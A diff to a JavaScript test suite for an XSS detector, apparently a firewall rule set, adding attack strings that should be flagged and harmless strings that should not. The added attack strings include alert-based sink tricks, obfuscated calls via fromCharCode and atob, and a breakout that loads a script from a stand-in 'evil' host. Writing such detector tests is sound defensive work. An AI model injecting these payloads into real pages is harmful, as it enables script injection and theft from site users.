@@ -29,6 +29,12 @@ describe('findJsScript', () => {
     ['(alert)(1)', XSS_RULES.jsSinkAsValue],
     ['onerror=alert;throw 1', XSS_RULES.jsSinkAsValue],
     ['a=alert,a(1)', XSS_RULES.jsSinkAsValue],
+    ["'-Reflect.apply(alert,0,[1])-'", XSS_RULES.jsSinkAsValue],
+    ["';valueOf=alert;window+''//", XSS_RULES.jsSinkAsValue],
+    ["';Object.defineProperty(window,'x',{get:alert});x//", XSS_RULES.jsSinkAsValue],
+    ["';globalThis[String.fromCharCode(97,108,101,114,116)](1)//", XSS_RULES.jsObfuscatedAccess],
+    ["window[atob('YWxlcnQ=')](1)", XSS_RULES.jsObfuscatedAccess],
+    ["';$.getScript('//evil/x.js')//", XSS_RULES.jsBreakCall],
     ['eval.call(this,unescape.call(this,location))', XSS_RULES.jsEvalDecoded],
     ['eval.apply(null,[location.hash.slice(1)])', XSS_RULES.jsEvalDecoded],
     [';//\ra=eval;b=alert;a(b(10));//', XSS_RULES.jsSinkAsValue],
@@ -68,6 +74,9 @@ describe('findJsScript', () => {
     'a=alert,b(1)',
     'var re = new RegExp(/ab/.source + /cd/.source)',
     'with (obj) { eval(code) }',
+    'window[callbackName](data)',
+    '$.getScript("/js/app.js", init)',
+    'const total = items.map(price, tax)',
   ])('raises no critical paranoia-1 rule on %j', (input) => {
     expect(paranoiaOne(input)).toEqual([]);
   });
